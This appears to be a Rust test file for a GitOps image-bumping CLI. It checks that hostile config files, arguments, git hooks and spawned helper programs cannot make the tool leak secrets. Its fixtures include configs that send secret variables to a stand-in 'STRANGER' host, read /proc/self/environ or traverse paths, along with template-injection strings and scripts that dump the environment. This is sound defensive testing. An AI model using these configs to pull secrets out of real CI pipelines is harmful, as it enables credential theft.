//! What a run is given leads astray or repeats a secret: the config file, arguments, the infra repository, hooks, and the
//! programs that are started.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;

use super::scene::{Place, Scene};
use crate::samples::{REPORTS, values};
use crate::world::write;

/// Variables that a hostile config file asks for; each of them holds a secret.
const ASKED: [&str; 8] = [
    "GITOPS_BUMP_GIT_TOKEN",
    "GITOPS_BUMP_REGISTRY_PASSWORD",
    "CI_JOB_TOKEN",
    "CI_REPOSITORY_URL",
    "DOCKER_AUTH_CONFIG",
    "DB_PASSWORD",
    "AWS_SECRET_ACCESS_KEY",
    "https_proxy",
];

/// Whole config files. `STRANGER` is that server, `GIT` the repository on the Git server, `IMAGE` the image, `VAR` a variable.
const CONFIGS: [&str; 22] = [
    "images: {app: 'IMAGE'}\nrepositories: [{url: 'http://STRANGER/a/b', helm: [{file: values.yaml}]}]",
    "images: {app: 'IMAGE'}\nrepositories: [{url: 'http://oauth2@STRANGER/a/b', merge_request: true, helm: [{file: values.yaml}]}]",
    "images: {app: 'IMAGE'}\nrepositories: [{url: 'http://STRANGER/${VAR}', helm: [{file: values.yaml}]}]",
    "images: {app: 'IMAGE'}\nrepositories: [{url: 'http://u:${VAR}@STRANGER/a/b', helm: [{file: values.yaml}]}]",
    "images: {app: 'IMAGE'}\nrepositories: [{url: 'http://STRANGER/a?b=${VAR}', branch: main, helm: [{file: values.yaml}]}]",
    "images: {app: 'IMAGE'}\nrepositories: [{url: 'http://STRANGER/a', credentials: {token_variable: VAR}, helm: [{file: values.yaml}]}]",
    "images: {app: 'IMAGE'}\nrepositories: [{url: 'http://STRANGER/a', credentials: {token_variable: GITOPS_BUMP_GIT_TOKEN_INFRA}, helm: [{file: values.yaml}]}]",
    "images: {app: 'STRANGER/team/app:2'}\nrepositories: [{url: 'GIT', helm: [{file: values.yaml}]}]",
    "images: {app: 'STRANGER/team/app:${VAR}'}\nrepositories: [{url: 'GIT', helm: [{file: values.yaml}]}]",
    "images: {app: 'IMAGE'}\nrepositories: [{url: 'GIT', helm: [{file: values.yaml}], mirror: {project_id: 9, repository: x, url: 'http://STRANGER/api/v4'}}]",
    "images: {app: 'IMAGE'}\nrepositories: [{url: 'GIT', helm: [{file: values.yaml}], mirror: {project_id: 9, repository: '${VAR}'}}]",
    "images: {app: 'IMAGE'}\nmessage: '${VAR}'\nrepositories: [{url: 'GIT', helm: [{file: values.yaml}]}]",
    "images: {app: 'IMAGE'}\nmessage: |\n  x\n\n  ${VAR}\nrepositories: [{url: 'GIT', helm: [{file: values.yaml}]}]",
    "images: {app: 'IMAGE'}\nmessage: '{{ env }}{{ environ }}{{ debug() }}{{ ci }}'\nrepositories: [{url: 'GIT', helm: [{file: values.yaml}]}]",
    "images: {app: 'IMAGE'}\nauthor: 'A ${VAR} <a@b.example>'\nrepositories: [{url: 'GIT', helm: [{file: values.yaml}]}]",
    "images: {app: 'IMAGE'}\nrepositories: [{url: 'GIT', branch: 'x/${VAR}', helm: [{file: '${VAR}'}]}]",
    "images: {app: 'IMAGE'}\nrequire: {digest_files: [/proc/self/environ]}\nrepositories: [{url: 'GIT', helm: [{file: values.yaml}]}]",
    "images: {app: 'IMAGE'}\nrequire: {verify_keys: [/proc/self/environ]}\nrepositories: [{url: 'GIT', helm: [{file: values.yaml}]}]",
    "images: {app: 'IMAGE'}\nsigning_key: /proc/self/environ\nrepositories: [{url: 'GIT', helm: [{file: values.yaml}]}]",
    "images: {app: 'IMAGE'}\npin: '${VAR}'\nrepositories: [{url: 'GIT', helm: [{file: values.yaml}]}]",
    "images: {app: 'IMAGE'}\n'${VAR}': x\nwait: '${VAR}'\nrequire: {labels: {a: '${VAR}'}}",
    "images: {app: 'IMAGE'}\nrepositories: [{url: '/proc/self/environ', helm: [{file: ../../proc/self/environ}]}]",
];

/// Arguments of which one repeats a secret in a place where an error shows what it was given.
const ARGUMENTS: [&[&str]; 27] = [
    &["SECRET"],
    &["update", "SECRET"],
    &["update", "--SECRET"],
    &["update", "--token=SECRET"],
    &["update", "--image", "SECRET"],
    &["update", "--image", "h.example/SECRET"],
    &["update", "--pin", "SECRET"],
    &["update", "--wait=SECRET"],
    &["update", "--color", "SECRET", "--image", "x:1"],
    &["update", "--image", "h.example/a:1", "--repo", "SECRET", "--helm", "x"],
    &["update", "--image", "h.example/a:1", "--repo", "ftp://u:SECRET@h/x", "--helm", "x"],
    &["update", "--image", "h.example/a:1", "--repo", "http://127.0.0.1:9/SECRET", "--helm", "x"],
    &["update", "--image", "h.example/a:1", "--repo", "/SECRET", "--helm", "SECRET:a[b"],
    &["update", "--image", "h.example/a:1", "--plain-http", "http://u:SECRET@h"],
    &["update", "--image", "h.example/a:1", "--config", "/SECRET"],
    &["update", "--image", "h.example/a:1", "--ca-file", "/SECRET", "--repo", "/x", "--helm", "x"],
    &["update", "--image", "h.example/a:1", "--signing-key", "SECRET", "--repo", "/x", "--helm", "x"],
    &["update", "--image", "h.example/a:1", "--argocd-server", "http://u:SECRET@h", "--repo", "/x", "--helm", "x"],
    &["update", "--image", "h.example/a:1", "--message", "{{ SECRET", "--repo", "/x", "--helm", "x"],
    &["update", "--image", "h.example/a:1", "--argocd-server", "http://SECRET@h", "--repo", "/x", "--helm", "x"],
    &["update", "--image", "h.example/a:1", "--repo", "http://u:SECRET@127.0.0.1:9/x", "--helm", "x"],
    &["update", "--image", "h.example/a:1", "--repo", "ssh://SECRET@127.0.0.1:9/x", "--helm", "x"],
    &["check", "--image", "127.0.0.1:9/SECRET:1", "--digest-file", "/SECRET"],
    &["status", "--format", "SECRET"],
    &["status", "--repo", "http://u:SECRET@127.0.0.1:9/x", "--helm", "x"],
    &["init", "--repo", "http://SECRET@127.0.0.1:9/x"],
    &["set", "--image", "h.example/a:SECRET", "--helm", "/SECRET"],
];

#[test]
fn a_hostile_config_file_gets_no_secret_out() {
    let scene = Scene::new();
    let git = scene.infra.url_at(&scene.git.address);
    for config in CONFIGS {
        let config = config.replace("STRANGER", &scene.stranger.address).replace("IMAGE", &scene.image);
        let config = config.replace("GIT'", &format!("{git}'"));
        let variables = if config.contains("VAR") { &ASKED[..] } else { &ASKED[..1] };
        for variable in variables {
            scene.world.write(".gitops-bump.yml", config.replace("VAR", variable));
            for command in [&["update", "-vv"][..], &["check", "-vv"], &["status"], &["config", "show"]] {
                let reports: &[&str] = if matches!(command[0], "update" | "check") { &REPORTS } else { &[] };
                let arguments = [command, reports].concat();
                let case = format!("{} {variable}\n{config}", command[0]);
                scene.play(&case, scene.bump(Place::Pipeline, &arguments));
                let bare = scene.bump(Place::Pipeline, &arguments).without_env("GITOPS_BUMP_GIT_TOKEN");
                scene.play(&case, bare);
            }
            let validate = ["config", "validate"];
            scene.play("validate", scene.bump(Place::Desk, &validate));
        }
    }
}

#[test]
fn no_error_repeats_a_secret_that_it_was_given() {
    let scene = Scene::new();
    for variable in ["GITOPS_BUMP_GIT_TOKEN", "CI_JOB_TOKEN", "MY_API_TOKEN"] {
        for arguments in ARGUMENTS {
            let secret = scene.canaries.value(variable);
            let given: Vec<String> = arguments.iter().map(|argument| argument.replace("SECRET", secret)).collect();
            let given: Vec<&str> = given.iter().map(String::as_str).collect();
            let run = scene.play(&format!("{variable} {arguments:?}"), scene.bump(Place::Pipeline, &given));
            assert_ne!(run.code, 0, "{arguments:?}: {run}");
        }
        // As a twin variable of a flag, too.
        let twin = |name: &str| scene.bump(Place::Pipeline, &["update"]).env(name, scene.canaries.value(variable));
        for name in
            ["GITOPS_BUMP_PIN", "GITOPS_BUMP_WAIT", "GITOPS_BUMP_IMAGE", "GITOPS_BUMP_REPO", "GITOPS_BUMP_DRY_RUN"]
        {
            scene.play(name, twin(name));
        }
    }
}

#[test]
fn files_that_hold_secrets_are_shown_without_them() {
    let scene = Scene::new();
    let secrets: Vec<String> = ["CI_JOB_TOKEN", "DB_PASSWORD", "MY_API_TOKEN", "AWS_SECRET_ACCESS_KEY"]
        .map(|variable| scene.canaries.value(variable).to_owned())
        .into();
    let note = secrets.iter().map(|secret| format!("# {secret}\n")).collect::<Vec<_>>().concat();
    let repository = scene.image.trim_end_matches(":2").to_owned();
    let text = note.clone() + &values(&repository, "1").replace("replicaCount", &format!("{note}replicaCount"));
    scene.world.write("values.yaml", &text);
    let set = ["set", "--image", &scene.image, "--helm", "values.yaml"];
    scene.play("set --dry-run", scene.bump(Place::Desk, &[&set[..], &["--dry-run"]].concat())).exits(0);
    scene.play("set", scene.bump(Place::Desk, &set)).exits(0);
    // What others wrote holds the secrets already, so these files are in a repository that is not looked into.
    let strangers = scene.world.infra("strangers", &[("values.yaml", &text)]);
    let other = values(&format!("{repository}-{}", secrets[2].replace(['/', '+', '='], "-")), &secrets[1]);
    strangers.commit("main", &format!("Bump {}", secrets[0]), &[("other.yaml", other)]);
    let url = strangers.url_at(&scene.git.address);
    for format in ["table", "json", "markdown", "html"] {
        let status = ["status", "--repo", &url, "--helm", "values.yaml", "--helm", "other.yaml", "--format", format];
        scene.play(format, scene.bump(Place::Pipeline, &status)).exits(0);
    }
    scene.play("init", scene.bump(Place::Pipeline, &["init", "--repo", &url]));
    let update = ["update", "-vv", "--image", &scene.image, "--repo", &url, "--helm", "values.yaml"];
    scene.play("update", scene.bump(Place::Pipeline, &[&update[..], &REPORTS].concat())).exits(0);
}

#[test]
fn a_hook_that_quotes_secrets_is_not_quoted() {
    use base64::Engine as _;
    let scene = Scene::new();
    let said: String = ["GITOPS_BUMP_GIT_TOKEN", "CI_JOB_TOKEN", "DB_PASSWORD", "MY_API_TOKEN"]
        .map(|variable| {
            let secret = scene.canaries.value(variable);
            let basic = base64::engine::general_purpose::STANDARD.encode(format!("oauth2:{secret}"));
            let url: String = url::form_urlencoded::byte_serialize(secret.as_bytes()).collect();
            format!("{secret}\n{}x{secret}\n{basic}\n{url}\n{}\n", "y".repeat(190), serde_json::json!(secret))
        })
        .concat();
    let words = scene.world.write("words", said);
    scene.infra.hook("pre-receive", &format!("cat '{}' >&2; exit 1", words.display()));
    for flags in [&[][..], &["--merge-request"]] {
        scene.play("hook", scene.update(Place::Pipeline, flags)).exits(8).says("[hidden]");
    }
    scene.infra.hook("pre-receive", "exit 0");
    scene.infra.hook("post-receive", &format!("cat '{}' >&2", words.display()));
    scene.play("hook", scene.update(Place::Pipeline, &[])).exits(0);
    scene.play(
        "push options",
        scene.update(Place::Pipeline, &["--merge-request"]).without_env("GITOPS_BUMP_FORGE_TOKEN"),
    );
}

#[test]
fn programs_that_are_started_see_no_secret() {
    let mut scene = Scene::new();
    let seen = scene.world.scratch().join("seen");
    let program = |name: &str, script: &str| {
        let script = format!("#!/bin/sh\nenv >>'{}'\nenv >&2\n{script}\n", seen.display());
        let file = write(scene.world.scratch(), &format!("bin/{name}"), script.as_bytes());
        fs::set_permissions(&file, fs::Permissions::from_mode(0o755)).expect("the file is ours");
        file.parent().expect("a file has a directory").to_owned()
    };
    let root = scene.world.servers().git_repositories.clone();
    program("ssh", &format!("for last; do :; done\ncd '{}' && eval \"$last\"", root.display()));
    let helper = "cat >/dev/null\necho '{\"Username\": \"robot\", \"Secret\": \"Help3rCanary/x\"}'";
    let directory = program("docker-credential-canary", helper);
    write(scene.world.scratch(), "home/.docker/config.json", br#"{"credsStore": "canary"}"#);
    let path = format!("{}:{}", directory.display(), std::env::var("PATH").unwrap_or_default());
    let key = "-----BEGIN OPENSSH PRIVATE KEY-----\nKeyCanaryLine0fTheKey1\nKeyCanaryLine0fTheKey2\n-----END OPENSSH PRIVATE KEY-----\n";
    scene.canaries = scene.canaries.clone().with_parts(
        "GITOPS_BUMP_SSH_KEY",
        key,
        &["KeyCanaryLine0fTheKey1", "KeyCanaryLine0fTheKey2"],
    );
    scene.canaries = scene.canaries.clone().with_learnt("the helper's secret", "Help3rCanary/x");
    let url = format!("git@127.0.0.1:{}", scene.infra.path());
    let update = ["update", "-vv", "--image", &scene.image, "--repo", &url, "--helm", "values.yaml"];
    let bump = || {
        let bump = scene.bump(Place::Pipeline, &[&update[..], &REPORTS].concat());
        bump.env("PATH", &path).env("GITOPS_BUMP_GIT_HOSTS", "127.0.0.1")
    };
    let checked = |case: &str, but: &[&str]| {
        let environment = fs::read_to_string(&seen).expect("the program was started");
        assert_eq!(scene.canaries.seen_in(&environment, but), Vec::<String>::new(), "{case}: {environment}");
        fs::remove_file(&seen).expect("the file is ours");
    };
    scene.play("ssh", bump()).exits(0);
    // A proxy is for every program that speaks to the network.
    checked("ssh", &["https_proxy"]);
    scene.play("helper", bump().without_env("GITOPS_BUMP_REGISTRY_PASSWORD")).exits(7);
    checked("helper", &["https_proxy", "AWS_SECRET_ACCESS_KEY"]);
}
